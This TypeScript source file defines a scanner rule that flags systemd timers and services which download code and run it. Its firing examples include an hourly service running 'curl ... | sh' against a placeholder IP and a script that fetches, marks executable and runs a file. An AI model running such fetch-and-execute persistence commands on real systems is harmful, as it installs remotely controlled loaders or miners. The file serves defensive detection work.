import { behavioursOf } from "../inventory/closure.ts";
import type { BehaviourKind } from "../programs/program.ts";
import { evidenceAt } from "./evidence.ts";
import type { ActivationRule } from "./rule.ts";

const ACCUSED: ReadonlySet<BehaviourKind> = new Set(["fetch-to-interpreter", "fetch-to-executable-file"]);

/** Downloaded bytes reach an interpreter or become an executable file. */
export const fetchAndRun: ActivationRule = {
  id: "fetch-and-run",
  subject: "activation",
  title: "Downloads code and runs it",
  severity: "critical",
  confidence: "high",
  signal: "hostile",
  family: "execution",
  depth: "regular",
  techniques: ["T1053.006", "T1105", "T1059.004"],
  controls: ["SI-4", "SI-7", "CM-5"],
  why: "What runs is decided anew by a remote machine at each elapse; the file on disk looks harmless for ever. Loaders and miners are kept alive this way.",
  benign: [
    "Update scripts of hand-installed software that pipe a vendor's installer into a shell",
    "Text that only mentions such a command, as an argument of echo or in a comment (not accused)",
  ],
  clears: "download, verify a signature or digest, and only then run; or install the software as a package",
  references: ["https://attack.mitre.org/techniques/T1105/"],

  *check({ closure }, inventory) {
    for (const { behaviour } of behavioursOf(closure)) {
      if (!ACCUSED.has(behaviour.kind)) continue;
      yield {
        says: behaviour.says,
        confidence: behaviour.confidence,
        evidence: [evidenceAt(inventory, behaviour.span)],
      };
    }
  },

  examples: {
    fires: [
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service":
          "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n",
      },
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service": "[Service]\nExecStart=/usr/local/bin/up\n",
        "/usr/local/bin/up": {
          content:
            "#!/bin/sh\nwget -q -O /var/lib/u http://example.test/u\nchmod +x /var/lib/u\n/var/lib/u\n",
          mode: 0o755,
        },
      },
    ],
    quiet: [
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service":
          "[Service]\nExecStart=/usr/bin/echo 'docs: never run curl http://192.0.2.1/x | sh'\n",
      },
      {
        "/etc/systemd/system/a.timer": "[Timer]\nOnCalendar=hourly\n",
        "/etc/systemd/system/a.service":
          "[Service]\nExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1\n",
      },
    ],
  },
};
